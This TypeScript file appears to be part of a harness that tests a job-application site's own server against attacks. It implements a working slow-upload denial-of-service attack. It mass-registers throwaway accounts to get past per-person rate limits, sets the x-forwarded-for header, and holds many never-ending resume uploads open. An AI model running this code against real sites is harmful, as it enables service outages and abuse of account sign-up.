import { randomUUID } from "node:crypto";
import { request as httpRequest, type ClientRequest } from "node:http";
import type { Attack, Outcome } from "./attack.js";
import { signUp } from "./people.js";

/** One person may send this many applications a minute (server/modules/applications/application.limits.ts). */
const UPLOADS_A_PERSON = 10;
const BYTES_A_WRITE = 10;
const WRITE_EVERY_MS = 100;

/** Resumes of signed-in people, a few bytes at a time, that never end. A visitor's would be refused without being read. */
export function slowUploads(connections: number): Attack["prepare"] {
  return async (site, network) => {
    const people = Array.from({ length: Math.ceil(connections / UPLOADS_A_PERSON) }, () =>
      signUp(site, network, `${randomUUID()}@example.com`),
    );
    const sessions = await Promise.all(people);
    return () => {
      const uploads = Array.from(
        { length: connections },
        (_, i) => new SlowUpload(site.url, network, sessions[i % sessions.length] ?? ""),
      );
      const drip = setInterval(() => uploads.forEach((upload) => upload.write()), WRITE_EVERY_MS);
      return () => {
        clearInterval(drip);
        const outcome = outcomeOf(uploads);
        uploads.forEach((upload) => upload.stop());
        return outcome;
      };
    };
  };
}

class SlowUpload {
  /** The response's status or the error's code; null while there is neither. */
  answer: string | null = null;
  private readonly request: ClientRequest;

  constructor(url: string, network: string, session: string) {
    this.request = httpRequest(`${url}/api/apply-jobs`, {
      method: "POST",
      agent: false,
      headers: {
        "content-type": "multipart/form-data; boundary=slow",
        "x-forwarded-for": network,
        cookie: session,
      },
    });
    this.request.on("error", ({ code, message }: NodeJS.ErrnoException) => {
      this.answer ??= code ?? message;
    });
    this.request.on("response", (response) => {
      this.answer ??= String(response.statusCode);
      response.resume();
    });
    this.request.write(
      '--slow\r\nContent-Disposition: form-data; name="resume"; filename="a.pdf"\r\n\r\n',
    );
  }

  write(): void {
    if (this.answer === null) this.request.write("x".repeat(BYTES_A_WRITE));
  }

  stop(): void {
    this.request.destroy();
  }
}

function outcomeOf(uploads: readonly SlowUpload[]): Outcome {
  const outcome: Outcome = { statuses: {}, unanswered: 0 };
  for (const { answer } of uploads)
    if (answer === null) outcome.unanswered += 1;
    else outcome.statuses[answer] = (outcome.statuses[answer] ?? 0) + 1;
  return outcome;
}
